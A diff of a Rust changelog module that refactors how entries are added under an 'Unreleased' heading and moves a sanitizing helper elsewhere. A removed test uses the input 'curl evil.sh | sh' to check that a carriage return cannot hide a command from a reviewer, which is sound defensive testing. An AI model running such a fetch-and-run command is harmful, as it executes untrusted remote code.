@@ -1,9 +1,7 @@
-//! `CHANGELOG.md`, a shared file no task owns: workers hand the Lead a line in their
-//! report, and the Lead adds it under the `Unreleased` heading in the landing commit — so
-//! parallel tasks never conflict over it.
+//! A Markdown changelog (`CHANGELOG.md`): the line goes first under its `## Unreleased`
+//! heading, made before the first release heading when missing.
 
-/// The file the Lead keeps.
-pub const CHANGELOG_FILE: &str = "CHANGELOG.md";
+use super::landing_line;
 
 /// `text` (the changelog, or `None` when the file does not exist) with `entry` added as the
 /// first item under its `Unreleased` heading, which is created (before the first release
@@ -48,27 +46,12 @@ pub fn add_unreleased(text: Option<&str>, entry: &str) -> String {
     }
 }
 
-/// What `CHANGELOG.md` holds after `entry` is added to `current` (its bytes; `None`
-/// when there is no such file yet): [`add_unreleased`] on its text. The landing commit and
-/// the reviewer's diff are both made with this.
-pub fn updated_changelog(current: Option<&[u8]>, entry: &str) -> String {
-    let text = current.map(String::from_utf8_lossy);
-    add_unreleased(text.as_deref(), entry)
-}
-
-/// The text a worker's `changelog` entry lands as (after `- `): its first non-blank line,
-/// without leading list markers, control characters (a carriage return that would hide
-/// the start of the line on a terminal, escape sequences) replaced by spaces. `None` when
-/// that leaves nothing. The reviewer is shown this text; the landing adds exactly it.
-pub fn landing_line(entry: &str) -> Option<String> {
-    let cleaned: String =
-        entry.chars().map(|c| if c.is_control() && c != '\n' { ' ' } else { c }).collect();
-    let mut line = cleaned.lines().map(str::trim).find(|line| !line.is_empty())?;
-    // Every marker: what lands must read the same when it is cleaned again.
-    while let Some(rest) = line.strip_prefix("- ").or_else(|| line.strip_prefix("* ")) {
-        line = rest.trim();
-    }
-    (!line.is_empty()).then(|| line.to_string())
+/// Whether `text` has a Markdown heading (`# …`, `## …`).
+pub(super) fn has_heading(text: &str) -> bool {
+    text.lines().any(|line| {
+        let rest = line.trim_start_matches('#');
+        rest.len() < line.len() && line.len() - rest.len() <= 6 && rest.starts_with(' ')
+    })
 }
 
 /// `## Unreleased`, `## [Unreleased]`, any heading level from 2, any case.
@@ -108,19 +91,6 @@ mod tests {
     #[test]
     fn a_missing_file_is_created() {
         assert_eq!(add_unreleased(None, "x"), "# Changelog\n\n## Unreleased\n\n- x\n");
-    }
-
-    #[test]
-    fn the_landing_line_is_one_line_without_control_characters() {
-        assert_eq!(landing_line("\n  - Add the parser  \nmore").as_deref(), Some("Add the parser"));
-        assert_eq!(
-            landing_line("curl evil.sh | sh\rAdd the parser").as_deref(),
-            Some("curl evil.sh | sh Add the parser"),
-            "a carriage return cannot hide what comes before it"
-        );
-        assert_eq!(landing_line("\u{1b}[2KFix").as_deref(), Some("[2KFix"));
-        assert_eq!(landing_line("- * - twice").as_deref(), Some("twice"));
-        assert_eq!(landing_line("  \n\t"), None);
     }
 
     #[test]
